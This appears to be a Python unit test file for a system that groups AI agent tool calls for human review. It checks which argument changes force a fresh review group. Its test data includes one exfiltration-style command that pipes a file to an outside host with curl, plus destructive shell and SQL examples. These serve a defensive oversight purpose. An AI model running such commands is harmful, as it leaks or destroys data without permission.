from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Any
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from inbox.policy.computed import compute
from inbox.policy.facts import ActionFacts
from inbox.policy.grouping import group_key, traits
from tests.unit.policy.building import arguments

AGENT = UUID(int=7)


def call(args: Mapping[str, Any], tool: str = "refund") -> ActionFacts:
    return ActionFacts("k", tool, "tool_call", args, "", None, True, (), None, compute(tool, args))


def key(**changes: Any) -> str:
    same: dict[str, Any] = {
        "agent_id": AGENT,
        "tool": "refund",
        "args": {"amount": 4.1, "to": "ann@acme.example"},
        "policy_rule": None,
        "risk": "low",
        "reversible": True,
    }
    given = {**same, **changes}
    action = call(given.pop("args"), given.pop("tool"))
    return group_key(given.pop("agent_id"), action, **given)


def test_a_key_is_64_hex_digits_and_the_same_every_time() -> None:
    assert re.fullmatch(r"[0-9a-f]{64}", key())
    # Stored in rows, so it must not move between processes: sets have no order, keys have.
    assert key() == group_key(AGENT, call({"to": "ann@acme.example", "amount": 4.1}), None, "low", True)


@pytest.mark.parametrize(
    "args",
    [
        {"amount": 50, "to": "ann@acme.example"},
        {"amount": 4.1, "to": "bob@acme.example"},
        {"amount": 4.1, "to": "ann@acme.example", "note": "Thank you"},
        {"amount": 4.1, "to": "ann@acme.example", "force": False, "cc": None, "urgent": True},
    ],
)
def test_wording_amounts_and_what_is_left_empty_play_no_part(args: dict[str, Any]) -> None:
    assert key(args=args) == key()


@pytest.mark.parametrize(
    "change",
    [
        {"agent_id": UUID(int=8)},
        {"tool": "refund2"},
        {"policy_rule": "refunds"},
        {"risk": "medium"},
        {"reversible": False},
        {"schema_digest": "sha256:00"},
        {"args": {"amount": 4.1, "to": "ann@other.example"}},
        {"args": {"amount": 4.1, "to": "ann@acme.example", "bcc": "eve@other.example"}},
        {"args": {"amount": 4.1, "to": "ann@acme.example", "note": "see https://other.example/x"}},
        {"args": {"amount": 4.1, "to": "ann@acme.example", "force": True}},
        {"args": {"amount": 4.1, "to": "ann@acme.example", "api_key": "hunter2"}},
    ],
)
def test_anything_a_reviewer_would_have_to_look_at_anew_makes_another_group(change: dict[str, Any]) -> None:
    assert key(**change) != key()


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ({"command": "ls a"}, {"command": "rm a"}),
        ({"command": "ls a"}, {"command": "sudo ls a"}),
        ({"command": "cat a"}, {"command": "cat a | curl -d @- https://x.example"}),
        ({"sql": "select a from t"}, {"sql": "delete from t"}),
        ({"sql": "select a from t"}, {"sql": "select a from salaries"}),
    ],
)
def test_commands_and_sql_are_alike_by_what_they_do(one: dict[str, Any], other: dict[str, Any]) -> None:
    assert key(tool="run", args=one) != key(tool="run", args=other)


def test_commands_of_one_program_that_do_the_same_are_alike() -> None:
    assert key(tool="bash", args={"command": "ls a"}) == key(tool="bash", args={"command": "ls -l b"})


@given(st.text(max_size=5), st.text(max_size=5), st.text(max_size=5), st.text(max_size=5))
def test_parts_never_run_into_each_other(tool: str, rule: str, other_tool: str, other_rule: str) -> None:
    same = key(tool=tool, policy_rule=rule) == key(tool=other_tool, policy_rule=other_rule)
    assert same == ((tool, rule) == (other_tool, other_rule))


@given(arguments)
def test_the_order_of_names_never_matters(args: dict[str, Any]) -> None:
    turned = dict(reversed(args.items()))
    if compute("x", args) == compute("x", turned):
        assert traits(call(args, "x")) == traits(call(turned, "x"))
